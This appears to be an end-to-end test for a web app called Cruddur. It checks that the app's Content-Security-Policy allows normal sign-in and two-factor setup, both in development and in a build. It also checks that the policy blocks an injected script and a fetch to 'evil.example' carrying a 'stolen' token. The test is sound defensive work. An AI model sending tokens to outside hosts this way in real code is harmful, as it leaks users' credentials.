import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { build, preview } from 'vite';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import type { LocalPool } from '../../local-user-pool/src/create-local-pool.ts';
import { freePort } from '../start/free-port.ts';
import { type Cruddur, MODERATOR, startCruddur } from '../start/start-cruddur.ts';
import { viteSettings } from '../web/vite-settings.ts';
import { launchBrowser } from './browser.ts';
import { signInAs } from './people.ts';
import { openVisit } from './visit.ts';

const folder = mkdtempSync(join(tmpdir(), 'cruddur-csp-'));
let browser: Browser;
let cruddur: Cruddur;
let pool: LocalPool;

beforeAll(async () => {
  browser = await launchBrowser();
  cruddur = await startCruddur({ backend: 'express', port: 0, databaseFile: join(folder, 'cruddur.sqlite') });
  if (cruddur.pool === undefined) throw new Error('This test needs the local pool');
  pool = cruddur.pool;
});
afterAll(async () => {
  await browser?.close();
  await cruddur?.close();
  rmSync(folder, { recursive: true });
});

/** Serves a build of the front end, and takes everything else from the Cruddur that is running. */
async function serveBuild() {
  const port = await freePort(0);
  const origin = `http://127.0.0.1:${port}`;
  pool.registerApp(origin);
  const { userPoolId, clientId } = pool;
  const settings = viteSettings({ userPoolId, clientId, hostedLogin: origin }, 'local');
  const common = {
    ...settings,
    configFile: false,
    logLevel: 'error',
    build: { outDir: join(folder, 'built') },
  } as const;
  // Vitest sets NODE_ENV to `test`, for which the React plugin would make a development build.
  vi.stubEnv('NODE_ENV', 'production');
  await build(common);
  vi.unstubAllEnvs();
  const paths = ['/api', '/cognito', '/oauth2', '/login', '/totp', '/pretend-google', '/logout', '/_dev'];
  const proxy = Object.fromEntries(paths.map((path) => [path, cruddur.url]));
  const server = await preview({ ...common, preview: { port, host: '127.0.0.1', strictPort: true, proxy } });
  return { url: `${origin}/`, close: () => server.close() };
}

const inDevelopment = async () => ({ url: cruddur.url, close: async () => {} });

describe.each([
  ['in development', inDevelopment],
  ['in the build', serveBuild],
])('the Content-Security-Policy %s', (_, serve) => {
  it('lets the whole front end work, and stops a script and a request that somebody got into the page', async () => {
    const { url, close } = await serve();
    const visit = await openVisit(browser, url, pool);
    await visit.go('/');
    await visit.sees('token_missing');
    await signInAs(visit, MODERATOR);
    await visit.follow('Security');
    await visit.press('Set it up');
    const qrCode = visit.page.getByRole('img', { name: /QR code/ });
    await qrCode.waitFor();
    expect(await qrCode.evaluate((image: HTMLImageElement) => image.decode().then(() => image.naturalWidth))).toBe(352);
    await visit.press('Sign out');
    await visit.sees('token_missing');
    await visit.go('/signin');
    await visit.press('Continue at the hosted login page');
    await visit.follow('Continue with (pretend) Google');
    await visit.page.getByRole('button', { name: /Garek/ }).click();
    await visit.sees('openid email profile');
    expect(visit.complaints).toEqual([]);

    await visit.page.evaluate(() => {
      const blocked: string[] = [];
      Object.assign(window, { blocked });
      document.addEventListener('securitypolicyviolation', (event) => blocked.push(event.effectiveDirective));
      const script = document.createElement('script');
      script.textContent = 'document.title = "taken over"';
      document.body.append(script);
      fetch('https://evil.example/?token=stolen').catch(() => {});
    });
    await visit.page.waitForFunction(() => {
      const { blocked } = window as unknown as { blocked: string[] };
      return blocked.includes('script-src-elem') && blocked.includes('connect-src');
    });
    expect(await visit.page.title()).not.toBe('taken over');
    await visit.page.context().close();
    await close();
  });
});
